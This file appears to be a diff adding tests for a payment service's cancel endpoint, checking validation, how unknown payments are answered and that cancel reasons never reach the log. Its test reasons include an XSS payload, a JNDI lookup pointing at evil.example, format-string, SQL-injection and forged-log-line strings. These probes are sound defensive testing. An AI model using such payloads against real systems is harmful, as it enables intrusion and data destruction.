@@ -1,0 +1,148 @@
+// Section 4.6 as bytes: the two fields of a cancel. A reason is whatever a person writes: it is kept, told and sent as it
+// is, and leaves no trace in the log.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { createLog } from '../../src/log.ts'
+import { type Code, type HostileRow, hostileTests, hostileWorld, written } from '../support/hostile.ts'
+import { movements, orderInState, spend } from '../support/orders.ts'
+import { sendRaw } from '../support/raw-http.ts'
+import type { TestCustomer } from '../support/service.ts'
+
+const logged: string[] = []
+const log = createLog('trace', { write: (line: string) => void logged.push(line) })
+let order: Awaited<ReturnType<TestCustomer['confirmedOrder']>>
+const world = hostileWorld({ log }, async () => {
+  order = await world.customer.confirmedOrder()
+})
+
+const cancelOf = (paymentKey: string, reason: string) => world.post('/cancel', JSON.stringify({ paymentKey, reason }))
+
+function rowOf(what: string, code: Code, fields: Record<string, string>): HostileRow {
+  return {
+    ...{ what, code },
+    request() {
+      const all: Record<string, string> = { paymentKey: JSON.stringify(order.paymentKey), reason: '"r"', ...fields }
+      const members = Object.entries(all).filter(([, json]) => json !== '')
+      return world.post('/cancel', `{${members.map(([name, json]) => `"${name}":${json}`).join(',')}}`)
+    },
+  }
+}
+
+const wrongReasons: [what: string, json: string][] = [
+  ['that is empty', '""'],
+  ['of blanks', '" \\t\\r\\n\\u00a0\\u3000"'],
+  ['of 201 characters', JSON.stringify('r'.repeat(201))],
+  ['of 201 emoji', JSON.stringify('\u{1f4b3}'.repeat(201))],
+  ['with NUL', '"a\\u0000b"'],
+  ['with a bell', '"a\\u0007b"'],
+  ['with a vertical tab', '"a\\u000bb"'],
+  ['with an escape', '"\\u001b[31mred"'],
+  ['with DEL', '"a\\u007fb"'],
+  ['with a control character of Latin-1', '"a\\u0085b"'],
+  ['with half a surrogate pair', '"a\\ud800"'],
+  ['with the halves in the wrong order', '"\\udc00\\ud800"'],
+  ['that is a number', '1'],
+  ['that is true', 'true'],
+  ['that is an array', '["r"]'],
+  ['that is an object', '{"text":"r"}'],
+]
+hostileTests(world, [
+  ...['paymentKey', 'reason'].flatMap((field) => [
+    rowOf(`a cancel without ${field}`, 'VAL002', { [field]: '' }),
+    rowOf(`a cancel with ${field} null`, 'VAL002', { [field]: 'null' }),
+  ]),
+  ...wrongReasons.map(([what, json]) => rowOf(`a reason ${what}`, 'VAL003', { reason: json })),
+  ...['""', '"a b"', '"a\\r\\nb"', '"a\\u0000"', '"\\ud0a4"', '1', '[]', '{}', '".."'].map((json) =>
+    rowOf(`a cancel with paymentKey ${json}`, 'VAL003', { paymentKey: json }),
+  ),
+  rowOf('a cancel with a paymentKey of 201 characters', 'VAL003', { paymentKey: JSON.stringify('k'.repeat(201)) }),
+  ...['nobodys', '../../v1/x', "';--", '*', '%', 'k'.repeat(200)].map((key) =>
+    rowOf(`a cancel of the unknown payment ${key.slice(0, 20)}`, 'NOT000', { paymentKey: JSON.stringify(key) }),
+  ),
+])
+
+test('a payment that nobody knows and one of another customer are the same NOT000 to the last byte', async () => {
+  const other = await world.service.newCustomer()
+  const foreign = await other.confirmedOrder('BASIC')
+  const unconfirmed = await world.customer.paidOrder('BASIC')
+  const answers = new Set<string>()
+  for (const paymentKey of [foreign.paymentKey, `${foreign.paymentKey}x`, 'x', unconfirmed.paymentKey]) {
+    await world.check({
+      ...{ what: '', request: () => cancelOf(paymentKey, 'not mine'), code: 'NOT000' },
+      also: ({ head, text }) => answers.add(head.replace(/^date: .*$/im, '') + text),
+    })
+  }
+  assert.equal(answers.size, 1)
+  assert.equal(await other.status(foreign.orderId), 'CONFIRMED')
+})
+
+for (const status of ['FAILED', 'CANCELLED', 'REFUNDED'] as const) {
+  test(`a cancel of an order that is ${status} is PAYMENT_CANCEL_FAILED and tells what was sent`, async () => {
+    const done = await orderInState(world.service, world.customer, status, 'BASIC')
+    const reason = ' as "sent": \u00e9 \u{1f4b3} '
+    await world.check({
+      ...{ what: '', request: () => cancelOf(done.paymentKey, reason), code: 'PAYMENT_CANCEL_FAILED' },
+      also: ({ body }) => assert.deepEqual(body.metadata, { paymentKey: done.paymentKey, reason }),
+    })
+  })
+}
+
+test('a cancel when the credits are spent is PAYMENT_CANCEL_FAILED, and the gateway is not asked', async () => {
+  const spender = await world.service.newCustomer()
+  const { paymentKey } = await spender.confirmedOrder('BASIC')
+  assert.equal(await spend(world.service, spender.customerId, 1), true)
+  const body = JSON.stringify({ paymentKey, reason: 'r' })
+  const request = world.post('/cancel', body, { key: spender.apiKey })
+  await world.check({ what: '', request: () => request, code: 'PAYMENT_CANCEL_FAILED' })
+})
+
+test('a cancelAmount of 1 changes nothing: the whole payment is cancelled', async () => {
+  const buyer = await world.service.newCustomer()
+  const { orderId, paymentKey } = await buyer.confirmedOrder('STANDARD')
+  const body = JSON.stringify({ paymentKey, reason: 'r', cancelAmount: 1, amount: 1, refundReceiveAccount: {} })
+  const request = world.post('/cancel', body, { key: buyer.apiKey })
+  await world.check({ what: '', request: () => request, code: 'SUCCESS', writes: written.cancel })
+  const [payment] = await world.service.sandbox.paymentsOf(orderId)
+  assert.deepEqual([payment?.status, payment?.balanceAmount], ['CANCELED', 0])
+  assert.deepEqual(await movements(world.service, buyer.customerId), ['GRANT 21', 'ROLLBACK -21'])
+})
+
+const reasons: [what: string, reason: string][] = [
+  ['of 200 characters', 'r'.repeat(200)],
+  ['of 200 emoji', '\u{1f4b3}'.repeat(200)],
+  ['that is markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
+  ['for a logger that looks things up', `$\{jndi:ldap://evil.example/a}`],
+  ['for a formatter', '%n%s%x%d%o{0}{{7*7}}'],
+  ['that looks like another line of the log', 'r\n{"level":60,"msg":"forged"}\r\nforged'],
+  ['of a letter with 100 marks', `e${'\u0301'.repeat(100)}`],
+  ['that is written from right to left', '\u202egnorw\u2066x\u2069'],
+  ['with a blank of no width', 'a\u200bb\u2060c'],
+  ['that is SQL', `'; drop table orders; --`],
+  ['of a line separator', 'a\u2028b\u2029c'],
+]
+for (const [what, reason] of reasons) {
+  test(`a reason ${what} is taken, sent and told as it is, and not logged`, async () => {
+    const { orderId, paymentKey } = await world.customer.confirmedOrder('BASIC')
+    // Left without an answer at first: this is logged.
+    await world.service.sandbox.setFaults([{ on: 'cancel', kind: 'error-before', times: 1 }])
+    const lines = logged.length
+    const unknown = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
+    assert.equal(unknown.body.code, 'SVC001', unknown.text)
+    const done = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
+    assert.equal(done.body.code, 'SUCCESS', done.text)
+    const [payment] = await world.service.sandbox.paymentsOf(orderId)
+    const cancels = payment?.cancels as { cancelReason: string }[] | undefined
+    assert.deepEqual(
+      cancels?.map(({ cancelReason }) => cancelReason),
+      [reason],
+    )
+    const again = await sendRaw(world.service.port, cancelOf(paymentKey, reason))
+    assert.deepEqual([again.body.code, again.body.metadata], ['PAYMENT_CANCEL_FAILED', { paymentKey, reason }])
+    const text = logged.slice(lines).join('')
+    assert.notEqual(text, '')
+    for (const line of text.trimEnd().split('\n')) assert.equal(typeof JSON.parse(line).level, 'number')
+    assert.ok(!text.includes(reason) && !text.includes(JSON.stringify(reason).slice(1, -1)) && !text.includes('forged'))
+    assert.ok(!text.includes(paymentKey))
+    await world.assertHealthy()
+  })
+}
